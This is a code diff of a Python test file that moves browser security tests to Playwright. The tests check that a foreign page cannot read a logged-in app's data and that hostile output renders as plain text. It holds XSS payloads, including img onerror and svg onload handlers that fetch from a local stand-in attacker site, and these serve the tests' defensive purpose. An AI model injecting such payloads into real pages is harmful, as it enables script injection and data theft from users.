@@ -1,41 +1,22 @@
-"""What a real browser does with a foreign page's requests, and with hostile text on the plain page."""
+"""What a real browser does with a foreign page's requests, and with hostile text on the pages."""
 
 import http.server
-import shutil
-import subprocess
 import threading
 from collections.abc import Iterator
 from contextlib import contextmanager
 from pathlib import Path
-from time import monotonic, sleep
 from urllib.parse import parse_qs, urlsplit
 
 import pytest
+from playwright.sync_api import Browser, expect
 from typing_extensions import override
 
 from tests.attacks.stage import Target
 from tests.ports import free_port
 from tests.servers import Place, new_session, run_prompt
+from tests.web.stage import CHROMIUM, Visitor, chromium
 
-CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
-SECONDS = 60
-FLAGS = (
-    "--headless",
-    "--no-sandbox",
-    "--disable-gpu",
-    "--disable-quic",
-    "--no-first-run",
-    "--disable-background-networking",
-    "--disable-component-update",
-    "--disable-sync",
-    "--no-proxy-server",
-    "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE localhost",
-)
-
-pytestmark = [
-    pytest.mark.skipif(CHROMIUM is None, reason="there is no chromium on the PATH"),
-    pytest.mark.timeout(180),
-]
+pytestmark = pytest.mark.timeout(180)
 
 HOSTILE = (
     "<img src=x onerror=fetch('{evil}/?ran=img')><svg onload=fetch('{evil}/?ran=svg')>"
@@ -101,18 +82,12 @@ def evil_site() -> Iterator[EvilSite]:
         server.server_close()
 
 
-def visit(profile: Path, url: str) -> str:
-    """Open a page, give it five seconds of its own time, and return what it became."""
-    assert CHROMIUM
-    done = subprocess.run(
-        [CHROMIUM, *FLAGS, f"--user-data-dir={profile}", "--virtual-time-budget=5000", "--dump-dom", url],
-        capture_output=True,
-        text=True,
-        timeout=SECONDS,
-        check=False,
-    )
-    assert done.returncode == 0, done.stderr
-    return done.stdout
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Browser]:
+    if CHROMIUM is None:
+        pytest.skip("there is no chromium on the PATH")
+    with chromium() as running:
+        yield running
 
 
 @pytest.fixture
@@ -122,51 +97,35 @@ def target(tmp_path: Path) -> Iterator[Target]:
         yield Target(place, server)
 
 
-def delete_once_watched(target: Target, session: str) -> None:
-    """End the stream that a page follows: a browser's own time stands still while one is open."""
-    deadline = monotonic() + SECONDS
-    with target.place.client() as owner:
-        path = f"/api/session/{session}"
-        while not owner.get(f"{path}/events/status").json()["activeConnections"] and monotonic() < deadline:
-            sleep(0.05)
-        owner.delete(path)
-
-
-def log_in(target: Target, profile: Path) -> None:
-    with target.place.client() as owner:
-        code = owner.post("/api/login-codes").json()["code"]
-    visit(profile, f"{target.origin}/login#{code}")
-
-
-def test_a_foreign_page_in_a_browser_that_is_logged_in_reads_and_does_nothing(target: Target, tmp_path: Path) -> None:
-    profile = tmp_path / "profile"
-    log_in(target, profile)
-    assert "the owner's" in visit(profile, f"{target.origin}/sessions")
+def test_a_foreign_page_in_a_browser_that_is_logged_in_reads_and_does_nothing(target: Target, browser: Browser) -> None:
+    visitor = Visitor(browser, target.place).log_in()
+    own = visitor.live("/sessions")
+    expect(own.get_by_role("main")).to_contain_text("the owner's")
     with evil_site() as site, target.untouched():
         site.page = ATTACK.replace("SERVER", target.origin).replace("SESSION", target.session).encode()
 
-        visit(profile, site.url)
+        page = visitor.context.new_page()
+        page.goto(site.url)
+        page.wait_for_timeout(1000)  # what it has read by then, it would have sent
 
         assert set(site.sent["tried"]) == ATTEMPTS
         assert "read" not in site.sent
+    visitor.context.close()  # its faults are the attack's refusals
 
 
-def test_hostile_output_is_text_in_a_browser_and_reaches_nobody(target: Target, tmp_path: Path) -> None:
-    profile = tmp_path / "profile"
+def test_hostile_output_is_text_in_a_browser_and_reaches_nobody(target: Target, browser: Browser) -> None:
+    visitor = Visitor(browser, target.place).log_in()
     with evil_site() as site:
         hostile = HOSTILE.format(evil=site.url)
         with target.place.client() as owner:
             session = new_session(owner, title="<img src=x onerror=alert(1)>")
             run_prompt(owner, session, f"cat <<'END'\n{hostile}\nEND\necho shown")
-        log_in(target, profile)
 
-        listed = visit(profile, f"{target.origin}/sessions")
-        ending = threading.Thread(target=delete_once_watched, args=(target, session))
-        ending.start()
-        shown = visit(profile, f"{target.origin}/session/{session}")
-        ending.join()
+        listed = visitor.live("/sessions")
+        expect(listed.get_by_role("main")).to_contain_text("<img src=x onerror=alert(1)>")
+        shown = visitor.live(f"/session/{session}")
+        expect(shown.get_by_role("log")).to_contain_text(hostile)
+        expect(shown.get_by_role("log")).to_contain_text("shown")
 
-        assert "shown" in shown
-        assert "&lt;img src=x onerror=fetch(" in shown
-        assert "&lt;img src=x onerror=alert(1)&gt;" in listed
         assert site.sent == {}
+    visitor.close()
